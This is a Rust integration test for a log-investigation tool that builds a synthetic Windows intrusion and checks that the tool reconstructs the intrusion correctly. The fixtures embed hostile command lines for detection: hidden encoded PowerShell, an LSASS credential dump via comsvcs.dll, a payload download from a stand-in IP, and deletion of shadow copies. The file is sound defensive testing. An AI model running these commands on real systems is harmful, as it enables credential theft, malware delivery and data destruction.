//! `dwell investigate` against a dataset whose truth is known: five Windows hosts and a
//! domain controller with a day of benign activity, a false positive two days earlier, and
//! an intrusion that starts on WS01 at a known time and moves to WS02 (PsExec with stolen
//! credentials) and on to WS03 (WMI). dwell must recover the first malicious event, patient
//! zero, every compromised host and account, and the two movements, exactly.

mod common;

use common::{browse, chromium, dwell, stderr, stdout};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

const SECURITY: &str = "Security";
const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
const SYSTEM: &str = "System";

/// Per-host logs as evtx_dump JSON lines; remembers which line each event is on.
#[derive(Default)]
struct Logs {
    files: BTreeMap<String, Vec<String>>,
}

impl Logs {
    /// Appends an event and returns its (file name, line).
    fn add(
        &mut self,
        host: &str,
        channel: &str,
        id: u32,
        time: &str,
        data: Value,
    ) -> (String, u64) {
        let file = format!("{}.jsonl", host.to_ascii_lowercase());
        let lines = self.files.entry(file.clone()).or_default();
        let record = lines.len() as u64 + 1;
        let ev = json!({"Event": {
            "System": {
                "Provider": {"#attributes": {"Name": "test"}},
                "EventID": id,
                "Channel": channel,
                "Computer": format!("{host}.corp.local"),
                "EventRecordID": record,
                "TimeCreated": {"#attributes": {"SystemTime": time}},
            },
            "EventData": data,
        }});
        lines.push(ev.to_string());
        (file, record)
    }

    fn write(&self, dir: &Path) {
        for (name, lines) in &self.files {
            std::fs::write(dir.join(name), lines.join("\n") + "\n").expect("write log");
        }
    }
}

fn process(
    logs: &mut Logs,
    host: &str,
    time: &str,
    user: &str,
    [image, parent, cmd]: [&str; 3],
    logon: &str,
) -> (String, u64) {
    logs.add(
        host,
        SYSMON,
        1,
        time,
        json!({
            "UtcTime": time, "ProcessGuid": format!("{{{host}-{time}}}"), "ProcessId": "4242",
            "Image": image, "CommandLine": cmd, "User": user, "LogonId": logon,
            "ParentImage": parent, "ParentProcessGuid": format!("{{{host}-parent}}"),
        }),
    )
}

fn network_logon(
    logs: &mut Logs,
    host: &str,
    time: &str,
    user: &str,
    from: &str,
    ip: &str,
    logon_id: &str,
) {
    logs.add(host, SECURITY, 4624, time, json!({
        "SubjectUserName": format!("{host}$"), "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7",
        "TargetUserName": user, "TargetDomainName": "CORP", "TargetLogonId": logon_id,
        "LogonType": 3, "WorkstationName": from, "IpAddress": ip, "IpPort": "49152",
    }));
}

struct Truth {
    dir: PathBuf,
    first: (String, u64),
    false_positive: (String, u64),
}

/// The dataset. Times are UTC on 2026-02-03 unless said otherwise.
fn generate(dir: &Path) -> Truth {
    let mut logs = Logs::default();
    let users = [
        ("WS04", "bob", "10.0.0.14"),
        ("WS05", "carol", "10.0.0.15"),
        ("WS02", "dave", "10.0.0.12"),
        ("WS01", "alice", "10.0.0.11"),
    ];
    // Two days before: a false positive on WS05 (an admin's own group lookup).
    let false_positive = process(
        &mut logs,
        "WS05",
        "2026-02-01T10:00:00.000000Z",
        "CORP\\carol",
        [
            "C:\\Windows\\System32\\net.exe",
            "C:\\Windows\\System32\\cmd.exe",
            "net group \"print operators\" /domain",
        ],
        "0x2201",
    );
    // Benign day: every user logs on to the file server and the DC hands out tickets,
    // every half hour; everyone starts ordinary programs. This also tells which IP is
    // which workstation.
    for (k, minute) in (0..20).map(|k| (k, 8 * 60 + k * 30)) {
        let t = format!(
            "2026-02-03T{:02}:{:02}:00.000000Z",
            minute / 60,
            minute % 60
        );
        for (n, (ws, user, ip)) in users.iter().enumerate() {
            // alice stops using the file server once her machine is taken (09:12): after
            // that, her logons would rightly be part of the intrusion.
            if *user == "alice" && k > 1 {
                continue;
            }
            network_logon(
                &mut logs,
                "FS01",
                &t,
                user,
                ws,
                ip,
                &format!("0x{:x}", 0x1000 + k * 16 + n as i32),
            );
            logs.add("DC01", SECURITY, 4769, &t, json!({
                "TargetUserName": format!("{user}@CORP.LOCAL"), "TargetDomainName": "CORP.LOCAL",
                "ServiceName": "FS01$", "IpAddress": format!("::ffff:{ip}"), "Status": "0x0",
            }));
            process(
                &mut logs,
                ws,
                &t,
                &format!("CORP\\{user}"),
                [
                    "C:\\Program Files\\Google\\Chrome\\chrome.exe",
                    "C:\\Windows\\explorer.exe",
                    "chrome.exe --type=renderer",
                ],
                "0x5100",
            );
        }
    }
    // The intrusion. 09:12 WS01: alice opens a document that runs encoded PowerShell.
    let first = process(
        &mut logs,
        "WS01",
        "2026-02-03T09:12:00.000000Z",
        "CORP\\alice",
        [
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "powershell.exe -nop -w hidden -enc SQBFAFgA",
        ],
        "0x51a0",
    );
    process(
        &mut logs,
        "WS01",
        "2026-02-03T09:17:00.000000Z",
        "CORP\\alice",
        [
            "C:\\Windows\\System32\\rundll32.exe",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Users\\Public\\l.dmp full",
        ],
        "0x51a0",
    );
    // 09:52 WS01 -> WS02 as admin with PsExec.
    logs.add("WS01", SECURITY, 4648, "2026-02-03T09:52:00.000000Z", json!({
        "SubjectUserName": "alice", "SubjectDomainName": "CORP", "SubjectLogonId": "0x51a0",
        "TargetUserName": "admin", "TargetDomainName": "CORP", "TargetServerName": "WS02.corp.local",
        "ProcessName": "C:\\Users\\alice\\AppData\\Local\\Temp\\PsExec64.exe",
    }));
    logs.add(
        "DC01",
        SECURITY,
        4769,
        "2026-02-03T09:52:00.500000Z",
        json!({
            "TargetUserName": "admin@CORP.LOCAL", "TargetDomainName": "CORP.LOCAL",
            "ServiceName": "WS02$", "IpAddress": "::ffff:10.0.0.11", "Status": "0x0",
        }),
    );
    // Windows writes the 4672 of a session just before its 4624.
    logs.add(
        "WS02",
        SECURITY,
        4672,
        "2026-02-03T09:52:01.000000Z",
        json!({
            "SubjectUserName": "admin", "SubjectDomainName": "CORP", "SubjectLogonId": "0x7a01",
            "PrivilegeList": "SeDebugPrivilege",
        }),
    );
    network_logon(
        &mut logs,
        "WS02",
        "2026-02-03T09:52:01.000000Z",
        "admin",
        "WS01",
        "10.0.0.11",
        "0x7a01",
    );
    logs.add("WS02", SYSTEM, 7045, "2026-02-03T09:52:02.000000Z", json!({
        "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "AccountName": "LocalSystem",
    }));
    process(
        &mut logs,
        "WS02",
        "2026-02-03T09:52:03.000000Z",
        "CORP\\admin",
        [
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\PSEXESVC.exe",
            "cmd.exe",
        ],
        "0x7a01",
    );
    process(
        &mut logs,
        "WS02",
        "2026-02-03T09:53:00.000000Z",
        "CORP\\admin",
        [
            "C:\\Windows\\System32\\net.exe",
            "C:\\Windows\\System32\\cmd.exe",
            "net group \"domain admins\" /domain",
        ],
        "0x7a01",
    );
    // 11:30 WS02 -> WS03 with WMI; the logon names only the source address.
    network_logon(
        &mut logs,
        "WS03",
        "2026-02-03T11:30:00.000000Z",
        "admin",
        "-",
        "10.0.0.12",
        "0x9b02",
    );
    process(
        &mut logs,
        "WS03",
        "2026-02-03T11:30:02.000000Z",
        "CORP\\admin",
        [
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "powershell.exe -c Invoke-WebRequest http://203.0.113.9/a.exe -OutFile C:\\ProgramData\\a.exe",
        ],
        "0x9b02",
    );
    // 12:15 WS03: shadow copies deleted before encryption.
    process(
        &mut logs,
        "WS03",
        "2026-02-03T12:15:00.000000Z",
        "CORP\\admin",
        [
            "C:\\Windows\\System32\\vssadmin.exe",
            "C:\\ProgramData\\a.exe",
            "vssadmin.exe delete shadows /all /quiet",
        ],
        "0x9b02",
    );
    // Noise after the intrusion that must stay out of it: bob and carol keep working.
    network_logon(
        &mut logs,
        "FS01",
        "2026-02-03T12:20:00.000000Z",
        "bob",
        "WS04",
        "10.0.0.14",
        "0x8888",
    );
    logs.write(dir);
    Truth {
        dir: dir.to_path_buf(),
        first,
        false_positive,
    }
}

fn rules() -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/ground-truth/rules.yml")
        .display()
        .to_string()
}

fn investigate_json(dir: &Path, extra: &[&str]) -> Value {
    let rules = rules();
    let d = dir.display().to_string();
    let mut args = vec![
        "investigate",
        "--rules",
        &rules,
        &d,
        "--format",
        "json",
        "--no-progress",
    ];
    args.extend_from_slice(extra);
    let out = dwell(&args);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    serde_json::from_str(&stdout(&out)).expect("investigate prints one JSON document")
}

fn names(v: &Value) -> Vec<String> {
    v.as_array()
        .unwrap()
        .iter()
        .map(|x| x["name"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn ground_truth_intrusion_is_recovered_exactly() {
    let tmp = tempfile::tempdir().unwrap();
    let truth = generate(tmp.path());
    let report = investigate_json(&truth.dir, &[]);
    let incidents = report["incidents"].as_array().unwrap();
    assert_eq!(
        incidents.len(),
        2,
        "the false positive and the intrusion: {report:#}"
    );
    // Campaigns come first: the intrusion is the one campaign, the false positive a lead.
    assert_eq!(report["campaigns"], 1);
    assert_eq!(incidents[0]["campaign"], true);
    assert_eq!(incidents[1]["campaign"], false);

    // The false positive stays alone: one host, no movement.
    let fp = &incidents[1];
    assert_eq!(
        fp["first"]["source"].as_str().unwrap(),
        truth
            .dir
            .join(&truth.false_positive.0)
            .display()
            .to_string()
    );
    assert_eq!(fp["first"]["record"], truth.false_positive.1);
    assert_eq!(names(&fp["hosts"]), ["WS05"]);
    assert!(fp["movements"].as_array().unwrap().is_empty());

    let inc = &incidents[0];
    assert_eq!(inc["id"], 1);
    // First malicious event and dwell time.
    assert_eq!(inc["first"]["time"], "2026-02-03T09:12:00.000000Z");
    assert_eq!(
        inc["first"]["source"].as_str().unwrap(),
        truth.dir.join(&truth.first.0).display().to_string()
    );
    assert_eq!(inc["first"]["record"], truth.first.1);
    assert_eq!(
        inc["first"]["rule_title"],
        "Encoded PowerShell started by an Office application"
    );
    assert_eq!(inc["last"]["time"], "2026-02-03T12:15:00.000000Z");
    assert_eq!(inc["dwell_seconds"], 3 * 3600 + 3 * 60);
    // Patient zero, hosts and accounts.
    assert_eq!(
        inc["patient_zero"],
        json!({"host": "WS01", "account": "CORP\\alice"})
    );
    assert_eq!(names(&inc["hosts"]), ["WS01", "WS02", "WS03"]);
    assert_eq!(names(&inc["accounts"]), ["CORP\\alice", "CORP\\admin"]);
    // Tactics in the order they appeared.
    let tactics: Vec<&str> = inc["tactics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["tactic"].as_str().unwrap())
        .collect();
    assert_eq!(
        tactics,
        [
            "initial-access",
            "execution",
            "credential-access",
            "lateral-movement",
            "discovery",
            "command-and-control",
            "impact"
        ]
    );
    assert_eq!(inc["severity"], "critical");
    assert_eq!(inc["detections"].as_array().unwrap().len(), 7);
    // The two movements, exactly, with how they were made.
    let moves: Vec<Value> = inc["movements"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| {
            json!([
                m["time"],
                m["account"],
                m["from"],
                m["to"],
                m["logon_type"],
                m["admin"],
                m["methods"]
            ])
        })
        .collect();
    assert_eq!(
        moves,
        [
            json!([
                "2026-02-03T09:52:00.000000Z",
                "CORP\\admin",
                "WS01",
                "WS02",
                3,
                true,
                [
                    "explicit-credentials",
                    "kerberos-service",
                    "logon",
                    "psexec"
                ]
            ]),
            json!([
                "2026-02-03T11:30:00.000000Z",
                "CORP\\admin",
                "WS02",
                "WS03",
                3,
                false,
                ["logon", "wmi"]
            ]),
        ]
    );
    // Every link is explained by an entity or a movement and two events of the incident.
    let links = inc["links"].as_array().unwrap();
    assert_eq!(links.len(), 6, "7 detections need 6 joins: {links:#?}");
    // WS01 and WS02 share no entity: only the movement joins them. (WS02 and WS03 share
    // the admin account, which may join them first.)
    let moved: Vec<&str> = links
        .iter()
        .filter(|l| l["via"] == "movement")
        .map(|l| l["entity"].as_str().unwrap())
        .collect();
    assert!(moved.contains(&"CORP\\admin WS01 -> WS02"), "{links:#?}");
    for l in links {
        assert!(l["from"]["time"].as_str().unwrap() <= l["to"]["time"].as_str().unwrap());
    }
    // 20 benign half-hours: bob, carol and dave to FS01 and alice twice, plus bob after.
    assert_eq!(report["movements_seen"], 20 * 3 + 2 + 1 + 2);
}

#[test]
fn a_shorter_gap_does_not_split_a_campaign() {
    let tmp = tempfile::tempdir().unwrap();
    let truth = generate(tmp.path());
    // With a 30-minute gap the PsExec hop (35 minutes after the dump), the WS02 -> WS03 hop
    // (97 minutes after WS02's last detection) and WS03's two moments 45 minutes apart are
    // too far apart to link by the gap; once WS01's intrusion is a campaign, what it
    // compromised (CORP\admin, the hosts it reached) still carries it across them.
    let report = investigate_json(&truth.dir, &["--gap", "30m"]);
    let incidents = report["incidents"].as_array().unwrap();
    let hosts: Vec<Vec<String>> = incidents.iter().map(|i| names(&i["hosts"])).collect();
    assert_eq!(hosts, [vec!["WS01", "WS02", "WS03"], vec!["WS05"]]);
    assert_eq!(report["gap_seconds"], 1800);
    let vias: Vec<&str> = incidents[0]["links"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["via"].as_str().unwrap())
        .collect();
    assert!(
        vias.iter().any(|v| v.starts_with("compromised ")),
        "{vias:?}"
    );
    // All seven detections of the intrusion are in it.
    assert_eq!(incidents[0]["detections"].as_array().unwrap().len(), 7);
}

#[test]
fn case_file_reopens_to_the_same_report_and_has_the_documented_schema() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("logs");
    std::fs::create_dir(&data).unwrap();
    let truth = generate(&data);
    let case = tmp.path().join("case.dwell");
    let case_s = case.display().to_string();
    let direct = investigate_json(&truth.dir, &["--case", &case_s]);
    let out = dwell(&["report", &case_s, "--format", "json"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let reopened: Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(direct, reopened);
    // Written aside and renamed when complete.
    assert!(!tmp.path().join("case.dwell.partial").exists());

    // The tables and columns docs/case-file.md documents.
    let doc = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/case-file.md"),
    )
    .unwrap();
    let conn = schema(&case);
    for (table, columns) in &conn {
        assert!(
            doc.contains(&format!("### `{table}`")),
            "table {table} undocumented"
        );
        for c in columns {
            assert!(
                doc.contains(&format!("| `{c}` |")),
                "column {table}.{c} undocumented"
            );
        }
    }
    assert!(conn.iter().any(|(t, _)| t == "detections"));
    assert!(conn.len() >= 11, "{:?}", conn.keys());

    // A case file from elsewhere is refused with a reason, not a crash.
    let bogus = tmp.path().join("bogus.dwell");
    std::fs::write(&bogus, b"not sqlite at all").unwrap();
    let out = dwell(&["report", &bogus.display().to_string()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("bogus.dwell"), "{}", stderr(&out));
}

/// The case file's tables and their columns, as SQLite reports them.
fn schema(path: &Path) -> BTreeMap<String, Vec<String>> {
    let conn =
        rusqlite::Connection::open_with_flags(path, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
            .unwrap();
    let tables: Vec<String> = conn
        .prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    tables
        .into_iter()
        .map(|t| {
            let cols: Vec<String> = conn
                .prepare(&format!("SELECT name FROM pragma_table_info('{t}')"))
                .unwrap()
                .query_map([], |r| r.get(0))
                .unwrap()
                .collect::<Result<_, _>>()
                .unwrap();
            (t, cols)
        })
        .collect()
}

#[test]
fn timeline_exports_are_timesketch_ready() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("logs");
    std::fs::create_dir(&data).unwrap();
    let truth = generate(&data);
    let csv = tmp.path().join("t.csv");
    let jsonl = tmp.path().join("t.jsonl");
    for p in [&csv, &jsonl] {
        investigate_json(&truth.dir, &["--timeline", &p.display().to_string()]);
    }
    let csv = std::fs::read_to_string(csv).unwrap();
    let mut lines = csv.lines();
    assert!(
        lines
            .next()
            .unwrap()
            .starts_with("message,datetime,timestamp,timestamp_desc,")
    );
    // 8 detections and 2 movements.
    assert_eq!(lines.count(), 10);
    let rows: Vec<Value> = std::fs::read_to_string(jsonl)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 10);
    for r in &rows {
        assert!(r["message"].as_str().unwrap().starts_with("[incident "));
        assert!(r["datetime"].as_str().unwrap().ends_with('Z'));
        assert!(r["timestamp"].as_i64().unwrap() > 1_700_000_000_000_000);
        assert!(["Detection", "Lateral Movement"].contains(&r["timestamp_desc"].as_str().unwrap()));
    }
    // A detection's severity is its own rule's level, beside the incident's; the rule and its
    // ATT&CK tags have columns of their own.
    let dets: Vec<&Value> = rows.iter().filter(|r| r["kind"] == "detection").collect();
    assert!(
        dets.iter().any(|r| r["severity"] != r["incident_severity"]),
        "{dets:?}"
    );
    for r in &dets {
        assert_eq!(r["severity"], r["level"]);
        assert!(
            r["message"]
                .as_str()
                .unwrap()
                .contains(r["rule_title"].as_str().unwrap())
        );
        assert!(!r["rule_id"].as_str().unwrap().is_empty());
    }
    let net = dets
        .iter()
        .find(|r| r["rule_title"] == "Domain group enumeration with net")
        .unwrap();
    assert_eq!(net["techniques"], "T1069.002");
    assert_eq!(net["tactics"], "discovery");
    let moves: Vec<&str> = rows
        .iter()
        .filter(|r| r["kind"] == "movement")
        .map(|r| r["message"].as_str().unwrap())
        .collect();
    assert_eq!(moves.len(), 2);
    assert!(
        moves[0].contains("CORP\\admin from WS01 to WS02"),
        "{}",
        moves[0]
    );
}

#[test]
fn hunt_case_and_ocsf() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("logs");
    std::fs::create_dir(&data).unwrap();
    let truth = generate(&data);
    let case = tmp.path().join("h.dwell");
    let rules = rules();
    let d = truth.dir.display().to_string();
    let out = dwell(&[
        "hunt",
        "--rules",
        &rules,
        &d,
        "--format",
        "ocsf",
        "--case",
        &case.display().to_string(),
        "--no-progress",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let findings: Vec<Value> = stdout(&out)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(findings.len(), 8);
    let f = &findings[0];
    assert_eq!(f["class_uid"], 2004);
    assert_eq!(f["type_uid"], 200401);
    assert_eq!(f["severity_id"], 3);
    assert_eq!(
        f["finding_info"]["analytic"]["uid"],
        "6d1c0c5e-7f0b-4a57-9a57-3c1b4b8f0004"
    );
    assert_eq!(
        f["finding_info"]["attacks"],
        json!([{"tactic": {"name": "Discovery", "uid": "TA0007"}}, {"technique": {"uid": "T1069.002"}}])
    );
    assert_eq!(f["device"]["hostname"], "WS05.corp.local");
    assert_eq!(
        f["evidences"][0]["data"]["CommandLine"],
        "net group \"print operators\" /domain"
    );
    assert_eq!(f["time"], 1_769_940_000_000i64);
    // Timesketch JSON lines: its required fields first, `timestamp` in microseconds.
    let out = dwell(&[
        "hunt",
        "--rules",
        &rules,
        &d,
        "--format",
        "timesketch",
        "--no-progress",
    ]);
    let first = stdout(&out).lines().next().unwrap().to_string();
    assert!(
        first.starts_with(
            "{\"message\":\"[medium] Domain group enumeration with net on WS05.corp.local: "
        ),
        "{first}"
    );
    assert!(
        first.contains(",\"datetime\":\"2026-02-01T10:00:00.000000Z\",\"timestamp\":1769940000000000,\"timestamp_desc\":\"Event Recorded\",\"rule_id\":"),
        "{first}"
    );
    // hunt --case writes the same incidents investigate finds.
    let out = dwell(&["report", &case.display().to_string(), "--format", "json"]);
    let from_hunt: Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(from_hunt, investigate_json(&truth.dir, &[]));
    // And the case file gives the same timeline, ATT&CK columns and all.
    let (a, b) = (tmp.path().join("a.csv"), tmp.path().join("b.csv"));
    investigate_json(&truth.dir, &["--timeline", &b.display().to_string()]);
    let out = dwell(&[
        "report",
        &case.display().to_string(),
        "--format",
        "json",
        "--timeline",
        &a.display().to_string(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let (a, b) = (
        std::fs::read_to_string(a).unwrap(),
        std::fs::read_to_string(b).unwrap(),
    );
    assert!(a.contains("T1069.002"));
    assert_eq!(a, b);
}

/// The text of the element carrying `data-k="key"`.
fn key(dom: &str, key: &str) -> String {
    let marker = format!("data-k=\"{key}\">");
    let at = dom
        .find(&marker)
        .unwrap_or_else(|| panic!("no {key} in the page"));
    let rest = &dom[at + marker.len()..];
    rest[..rest.find('<').unwrap()].to_string()
}

fn assert_clean(dom: &str, log: &str) {
    assert!(
        dom.contains("data-ready=\"1\""),
        "the page's script did not finish"
    );
    assert!(!dom.contains("data-errors="), "script errors: {dom:.2000}");
    for bad in ["Uncaught", "Refused to", "ERR_", "Failed to load"] {
        assert!(!log.contains(bad), "browser log has {bad}: {log}");
    }
}

#[test]
fn html_report_renders_the_ground_truth_in_chromium() {
    let Some(browser) = chromium() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("logs");
    std::fs::create_dir(&data).unwrap();
    let truth = generate(&data);
    let page = tmp.path().join("report.html");
    investigate_json(&truth.dir, &["--html", &page.display().to_string()]);
    let html = std::fs::read_to_string(&page).unwrap();
    // Offline by construction: nothing to fetch, and a policy that forbids fetching.
    assert!(html.contains("content=\"default-src 'none'"));
    for fetch in [" src=", "href=\"http", "url(http", "url(//", "@import"] {
        assert!(!html.contains(fetch), "{fetch}");
    }
    let (dom, log) = browse(&browser, &page, "?incident=1", None);
    assert_clean(&dom, &log);
    assert_eq!(key(&dom, "incidents"), "2");
    assert_eq!(key(&dom, "detections"), "8");
    assert_eq!(key(&dom, "movements"), "2");
    assert_eq!(key(&dom, "first-time"), "2026-02-03T09:12:00Z");
    assert_eq!(key(&dom, "first-host"), "WS01");
    assert_eq!(key(&dom, "pz-account"), "CORP\\alice");
    assert_eq!(key(&dom, "dwell"), "3h 3m");
    assert_eq!(key(&dom, "inc-hosts"), "3");
    // The charts are drawn: a timeline with the first event ringed, a graph with two edges.
    assert!(dom.contains("id=\"first-mark\""));
    assert_eq!(dom.matches("class=\"edge\"").count(), 2);
    assert_eq!(dom.matches("class=\"tac on\"").count(), 7);
    if std::env::var_os("DWELL_UPDATE_SCREENSHOT").is_some() {
        let shot = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/report.png");
        browse(&browser, &page, "?incident=1", Some(&shot));
    }
}

#[test]
fn html_report_stays_usable_with_100000_detections() {
    let Some(browser) = chromium() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let mut logs = Logs::default();
    for i in 0..100_000u32 {
        let host = format!("SRV{:02}", i % 40);
        let t = format!(
            "2026-03-01T{:02}:{:02}:{:02}.{:06}Z",
            i / 10_000,
            i / 200 % 60,
            i / 4 % 60,
            i
        );
        process(
            &mut logs,
            &host,
            &t,
            &format!("CORP\\op{}", i % 40),
            [
                "C:\\Windows\\System32\\vssadmin.exe",
                "C:\\Windows\\System32\\cmd.exe",
                "vssadmin delete shadows /all",
            ],
            "0x3e7",
        );
    }
    logs.write(tmp.path());
    let page = tmp.path().join("big.html");
    let report = investigate_json(tmp.path(), &["--html", &page.display().to_string()]);
    assert_eq!(report["detections"], 100_000);
    let size = std::fs::metadata(&page).unwrap().len();
    assert!(size < 40 << 20, "report is {size} bytes");
    let (dom, log) = browse(&browser, &page, "?incident=1", None);
    assert_clean(&dom, &log);
    assert_eq!(key(&dom, "detections"), "100000");
    // Tables are paginated: one page of detections in the DOM, not 100,000 rows.
    let n = report["incidents"][0]["detections"]
        .as_array()
        .unwrap()
        .len();
    assert!(dom.contains(&format!("rows 1-100 of {n}")), "{n}");
    assert!(dom.matches("<tr").count() < 400);
}

#[test]
fn attack_samples_end_to_end() {
    let Some(shared) = common::shared() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let case = tmp.path().join("case.dwell");
    let page = tmp.path().join("report.html");
    let rules = shared.join("data/sigma/rules").display().to_string();
    let samples = shared
        .join("data/evtx/attack-samples")
        .display()
        .to_string();
    let out = dwell(&[
        "investigate",
        "--rules",
        &rules,
        &samples,
        "--format",
        "json",
        "--no-progress",
        "--case",
        &case.display().to_string(),
        "--html",
        &page.display().to_string(),
    ]);
    // 1: the folder's README, licence and notes are skipped inputs.
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report: Value = serde_json::from_str(&stdout(&out)).unwrap();
    let incidents = report["incidents"].as_array().unwrap();
    assert!(incidents.len() > 20, "{}", incidents.len());
    let in_incidents: usize = incidents
        .iter()
        .map(|i| i["detections"].as_array().unwrap().len())
        .sum();
    // Every detection is in an incident, undated, or set aside with a reason.
    let set_aside: u64 = report["set_aside"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["detections"].as_u64().unwrap())
        .sum();
    assert_eq!(
        in_incidents as u64 + report["undated_detections"].as_u64().unwrap() + set_aside,
        report["detections"].as_u64().unwrap()
    );
    for i in incidents {
        assert!(i["first"]["time"].as_str() <= i["last"]["time"].as_str());
        assert!(!i["hosts"].as_array().unwrap().is_empty());
        assert!(
            ["informational", "low", "medium", "high", "critical"]
                .contains(&i["severity"].as_str().unwrap())
        );
    }
    // The samples hold real lateral movement: the PsExec/explicit-credential logons from PC01
    // to WIN-77LTAPHIQ1R (Lateral Movement/ and Credential Access/ samples).
    let moves: Vec<(String, String, String)> = incidents
        .iter()
        .flat_map(|i| i["movements"].as_array().unwrap().iter())
        .map(|m| {
            (
                m["account"].as_str().unwrap().into(),
                m["from"].as_str().unwrap().into(),
                m["to"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert!(
        moves.contains(&(
            "EXAMPLE\\administrator".into(),
            "PC01".into(),
            "WIN-77LTAPHIQ1R".into()
        )),
        "{moves:?}"
    );
    // The case file opens with the documented schema and reports the same incidents.
    let tables = schema(&case);
    for t in [
        "meta",
        "inputs",
        "detections",
        "entities",
        "incidents",
        "incident_hosts",
        "incident_accounts",
        "incident_tactics",
        "incident_rules",
        "movements",
        "movement_evidence",
        "links",
    ] {
        assert!(tables.contains_key(t), "{t}");
    }
    let out = dwell(&["report", &case.display().to_string(), "--format", "json"]);
    assert_eq!(
        serde_json::from_str::<Value>(&stdout(&out)).unwrap(),
        report
    );
    // The report renders.
    let Some(browser) = chromium() else { return };
    let busiest = incidents
        .iter()
        .max_by_key(|i| i["movements"].as_array().unwrap().len())
        .unwrap();
    let (dom, log) = browse(
        &browser,
        &page,
        &format!("?incident={}", busiest["id"]),
        None,
    );
    assert_clean(&dom, &log);
    assert_eq!(key(&dom, "incidents"), incidents.len().to_string());
    assert_eq!(key(&dom, "detections"), report["detections"].to_string());
    assert_eq!(
        key(&dom, "inc-movements"),
        busiest["movements"].as_array().unwrap().len().to_string()
    );
    assert_eq!(
        key(&dom, "pz-host"),
        busiest["patient_zero"]["host"].as_str().unwrap()
    );
}

/// The rows a paged table says it shows: its pager's "rows a-b of N" (or "no rows"), the
/// last muted span before `<table id=...>`.
fn rows_of(dom: &str, table: &str) -> usize {
    let at = dom
        .find(&format!("<table id=\"{table}\""))
        .unwrap_or_else(|| panic!("no table {table}"));
    let marker = "<span class=\"muted\">";
    let k = dom[..at].rfind(marker).expect("a pager") + marker.len();
    let info = &dom[k..k + dom[k..].find('<').unwrap()];
    if info == "no rows" {
        return 0;
    }
    let n = info.rsplit(" of ").next().unwrap();
    n.parse()
        .unwrap_or_else(|_| panic!("no row count before {table}: {info}"))
}

#[test]
fn html_report_tells_the_campaigns_story_in_chromium() {
    let Some(browser) = chromium() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("demo");
    let o = dwell(&[
        "demo",
        "--out",
        &out.display().to_string(),
        "--scale",
        "0.05",
        "--color",
        "never",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let page = out.join("report.html");
    // What the page must show, from the case file and the truth, not from this test.
    let r = dwell(&[
        "report",
        &out.join("case.dwell").display().to_string(),
        "--format",
        "json",
    ]);
    let report: Value = serde_json::from_str(&stdout(&r)).unwrap();
    let campaign = &report["incidents"][0];
    assert_eq!(campaign["campaign"], true);
    let dets = campaign["detections"].as_array().unwrap();
    let critical = dets.iter().filter(|d| d["level"] == "critical").count();
    let truth: Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("truth.json")).unwrap()).unwrap();
    let first = &truth["first_malicious"];
    let line = std::fs::read_to_string(out.join(first["file"].as_str().unwrap()))
        .unwrap()
        .lines()
        .nth(first["line"].as_u64().unwrap() as usize - 1)
        .unwrap()
        .to_string();
    let ticket: Value = serde_json::from_str(&line).unwrap();
    let number = ticket["number"].as_str().unwrap();

    // The first detection's content, the storyline, the process tree, the level filter.
    let (dom, log) = browse(&browser, &page, "?incident=1&event=1&level=critical", None);
    assert_clean(&dom, &log);
    assert_eq!(key(&dom, "campaigns"), "1");
    assert!(dom.contains("id=\"storyline\""));
    assert_eq!(
        dom.matches("class=\"stage\"").count(),
        campaign["stages"].as_array().unwrap().len()
    );
    assert!(dom.contains("id=\"story-first\"") && dom.contains("id=\"story-impact\""));
    let panel = &dom[dom.find("id=\"event\"").expect("the event panel")..];
    let raw = &panel[panel.find("id=\"event-raw\"").expect("the raw event")..];
    assert!(
        raw[..raw.find("</pre>").unwrap()].contains(number),
        "{number}"
    );
